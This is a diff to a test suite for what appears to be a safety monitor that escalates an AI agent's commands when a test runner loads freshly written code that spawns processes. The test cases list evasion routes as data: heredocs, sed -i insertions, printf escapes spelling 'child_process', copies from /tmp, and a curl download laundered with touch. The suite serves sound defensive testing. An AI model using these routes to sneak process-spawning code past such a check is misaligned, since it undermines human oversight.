@@ -254,8 +254,29 @@ describe("a project runner that loads a written code file showing a capability i
     ["unknown language", write("src/x.c", "int main(){}"), "make"],
     ["a runner config", write(".npmrc", "script-shell=/tmp/x"), "npm test"],
     ["node FILE", write("scripts/x.js", TS), "node scripts/x.js"],
+    [
+      "a runner naming the directory",
+      write("tests/test_n.py", PY),
+      "cd /tmp && pytest /Users/dev/project/tests",
+    ],
+    ["make -C", write("sub/x.go", 'package x\nimport "os/exec"'), "make -C sub"],
     ["tsx FILE", write("scripts/y.ts", TS), "npx tsx scripts/y.ts"],
-    ["a code file written by a program", "printf 'import os' > tests/test_p.py", "pytest"],
+    ["a code file written by a program", "node gen.js > tests/test_p.py", "pytest"],
+    ["a heredoc showing a capability", "cat > tests/test_h.py <<'EOF'\nimport subprocess\nEOF", "pytest"],
+    [
+      "an unquoted heredoc that expands",
+      'cat > tests/test_h.py <<EOF\nx = "$(cat /tmp/evil)"\nEOF',
+      "pytest",
+    ],
+    ["a sed -i that inserts a capability", `sed -i 's/foo/require("child_process")/' src/a.ts`, "npm test"],
+    ["printf that builds a name from escapes", "printf '\\x63hild_process' > src/x.ts", "npm test"],
+    ["echo -e", "echo -e 'import os' > tests/test_q.py", "pytest"],
+    ["a copy from outside the workspace", "cp /tmp/x.py tests/test_x.py", "pytest"],
+    [
+      "touch does not launder an unread file",
+      "curl -so tests/test_t.py https://example.org/t.py && touch tests/test_t.py",
+      "pytest",
+    ],
     [
       "edit tool inserting a capability",
       {
@@ -279,6 +300,24 @@ describe("a project runner that loads a written code file showing a capability i
     expect(d.reasons.join("\n")).toMatch(
       /'pytest' runs the project's code in '\/Users\/dev\/project', which loads '\/Users\/dev\/project\/tests\/test_zz.py', made by 'file.write tests\/test_zz.py' \(action a1\) earlier in this session: it runs processes/,
     );
+  });
+
+  it("an edit or a copy keeps what the file was: it cannot make unread or unbounded code ALLOW", () => {
+    const bad = write("tests/test_e.py", "import subprocess");
+    const edit = {
+      kind: "tool",
+      name: "mcp__fs__edit_file",
+      arguments: { path: `${CWD}/tests/test_e.py`, edits: [{ oldText: "a", newText: "b" }] },
+    };
+    expect(last([bad, edit, "pytest"]).evaluation).toBe("ESCALATE");
+    expect(last([bad, "touch tests/test_e.py", "pytest"]).evaluation).toBe("ESCALATE");
+    expect(last([bad, "cp tests/test_e.py tests/test_f.py", "rm tests/test_e.py", "pytest"]).evaluation).toBe(
+      "ESCALATE",
+    );
+    // A whole new text replaces what was there.
+    expect(
+      last([bad, write("tests/test_e.py", "def test_a():\n    assert True\n"), "pytest"]).evaluation,
+    ).toBe("ALLOW");
   });
 
   it("a runner in a sibling directory does not load it", () => {
@@ -477,6 +516,18 @@ const EVERYDAY_STEPS: [string, Step[]][] = [
   ["git fetch origin then merge then test", ["git fetch origin", "git merge origin/main", "npm test"]],
   ["copy a file in the project then test", ["cp -r src/fixtures test/fixtures", "npm test"]],
   ["extract a project archive then test", ["tar xzf vendor.tgz", "npm test"]],
+  [
+    "heredoc test file (quoted delimiter)",
+    [
+      "cat > tests/test_x.py <<'EOF'\nimport pytest\n\ndef test_a():\n    assert f'{1}' == '1'\nEOF",
+      "pytest",
+    ],
+  ],
+  ["heredoc source (no expansion)", ["cat > src/x.ts <<EOF\nexport const x = 1;\nEOF", "npm test"]],
+  ["sed -i a source file", ["sed -i 's/foo/bar/g' src/a.ts", "npm test"]],
+  ["echo into a source file", ['echo "export const x = 1;" > src/x.ts', "npx vitest run"]],
+  ["copy and move project files", ["cp src/a.ts src/b.ts", "mv src/c.ts src/d.ts", "npm test"]],
+  ["touch a new test", ["touch tests/test_new.py", "pytest"]],
 ];
 
 describe("everyday multi-step work stays ALLOW", () => {
